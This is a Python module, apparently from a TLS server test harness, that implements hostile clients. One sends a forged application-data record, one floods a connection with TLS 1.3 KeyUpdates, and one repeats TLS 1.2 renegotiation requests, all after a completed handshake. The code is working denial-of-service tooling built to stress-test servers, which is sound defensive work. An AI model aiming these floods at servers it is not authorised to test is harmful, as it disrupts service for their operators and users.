"""Attackers that finish the handshake, then misbehave in TLS itself.

SPEC section 7: sends a garbage or forged TLS record after the handshake; streams
post-handshake TLS messages (TLS 1.3 KeyUpdate, TLS 1.2 renegotiation attempts) on one
connection. ``forged-record`` writes one application-data record header (RFC 8446
section 5.1) around random bytes, which no TLS library would send. KeyUpdates come from
OpenSSL's ``SSL_key_update`` (:mod:`harness.hostile.libssl`, why through ``ctypes``:
there); renegotiation requests, and KeyUpdates where no libssl is found, are built in
:mod:`harness.hostile.records` (why by hand: there). A stream goes as fast as the
server takes it (``BATCH`` records per write; a server that stops reading stops it)
until the release, its hold time or ``flood_bytes``; errors of pyOpenSSL (not OSErrors)
are recorded on the attacker like the others.
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
from collections.abc import Callable

from OpenSSL import SSL

from . import libssl
from .attacker import Attacker
from .records import HANDSHAKE, KeyUpdates, OpenSSLClient, Tls12Records
from .tls import APPLICATION_DATA, handshake

BATCH = 64  # records per write


def forged_record(a: Attacker) -> None:
    with a.connect() as sock:
        handshake(a, sock)
        payload = os.urandom(64)  # fails the record's AEAD check (RFC 8446 section 5.2)
        a.send(sock, struct.pack("!BHH", APPLICATION_DATA, 0x0303, len(payload)) + payload)
        a.hold()


def stream(a: Attacker, sock: socket.socket, record: Callable[[], bytes]) -> None:
    """Send ``record()`` after ``record()``, ``BATCH`` at a time, until release or limits."""
    sent = 0
    while sent < a.flood_bytes and not a.release.is_set() and a.remaining() > 0:
        data = b"".join(record() for _ in range(BATCH))
        a.send(sock, data)
        sent += len(data)
        a.messages += BATCH
        a.in_position.set()  # streaming: in position from the first batch on


def _refused(a: Attacker, exc: SSL.Error) -> None:
    """Record OpenSSL's reason (e.g. ``SSL.Error: no renegotiation``) as the attacker's error."""
    errors = exc.args[0] if exc.args and isinstance(exc.args[0], list) else []
    reason = errors[-1][-1] if errors and isinstance(errors[-1], tuple) else str(exc)
    a.error = a.error or f"SSL.Error: {reason}"[:120]


def key_update_flood(a: Attacker) -> None:
    """TLS 1.3 only; a complete handshake, then KeyUpdate after KeyUpdate on one connection.

    OpenSSL's own ``SSL_key_update`` through :mod:`harness.hostile.libssl` where the
    system has libssl, else records built here (:class:`KeyUpdates`).
    """
    lib = libssl.load()
    if lib is None:
        _key_updates_built_here(a)
        return
    with a.connect() as sock:
        try:
            client = libssl.KeyUpdateClient(
                lib, sock, a.credential, a.server_hostname, a.remaining()
            )
        except libssl.LibsslError as exc:
            a.error = a.error or f"libssl: {exc}"
            return
        try:
            client.connect()
            a.sent = client.written()
            while a.sent < a.flood_bytes and not a.release.is_set() and a.remaining() > 0:
                client.key_updates(BATCH)
                a.messages += BATCH
                a.sent = client.written()
                a.in_position.set()  # streaming: in position from the first batch on
        except libssl.LibsslError as exc:  # refused, reset, or released (our own shutdown)
            if not a.release.is_set():
                a.error = a.error or f"libssl: {exc}"
        finally:
            client.close()
        a.hold()


def _key_updates_built_here(a: Attacker) -> None:
    with a.connect() as sock:
        client = OpenSSLClient(a.credential, a.server_hostname, tls13=True)
        try:
            client.complete(a, sock)
        except SSL.Error as exc:  # no TLS 1.3, or refused: the server held
            _refused(a, exc)
            a.hold()
            return
        updates = KeyUpdates(client.client_traffic_secret(), client.conn.get_cipher_name() or "")
        stream(a, sock, updates.next)
        a.hold()


def renegotiation_flood(a: Attacker) -> None:
    """TLS 1.2; a complete handshake, then renegotiation request after request on one connection.

    A server that renegotiates is made to, again and again (``Connection.renegotiate()``);
    one that refuses gets the same ClientHello again and again (see
    :mod:`harness.hostile.records`).
    """
    with a.connect() as sock:
        client = OpenSSLClient(a.credential, a.server_hostname, tls13=False)
        try:
            client.complete(a, sock)
        except SSL.Error as exc:  # no TLS 1.2, or refused: the server held
            _refused(a, exc)
            a.hold()
            return
        records = Tls12Records(client.conn, seq=1)  # the client's Finished was number 0
        client.conn.renegotiate()
        with contextlib.suppress(SSL.WantReadError):  # the hello is written; no answer yet
            client.conn.do_handshake()
        first = client.pending()
        hello = records.open(first)  # OpenSSL's renegotiation ClientHello, as plaintext
        a.send(sock, first)
        a.messages = 1
        a.in_position.set()
        try:
            client.complete(a, sock)
        except SSL.Error as exc:  # refused; OpenSSL's client is done: the same hello again
            _refused(a, exc)
            stream(a, sock, lambda: records.seal(HANDSHAKE, hello))
            a.hold()
            return
        while not a.release.is_set() and a.remaining() > 0:  # it renegotiates: again
            client.conn.renegotiate()
            try:
                client.complete(a, sock)
            except SSL.Error as exc:
                _refused(a, exc)
                break
            a.messages += 1
        a.hold()
